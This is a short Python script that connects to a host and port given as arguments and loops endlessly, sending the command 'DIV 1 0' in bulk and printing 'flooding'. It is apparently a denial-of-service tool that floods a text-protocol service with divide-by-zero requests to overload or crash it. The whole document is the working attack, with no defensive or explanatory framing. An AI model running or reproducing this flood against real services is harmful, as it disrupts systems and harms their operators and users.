import socket, sys

s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
while True:
    s.sendall(b"DIV 1 0\n" * 100)
    print("flooding")
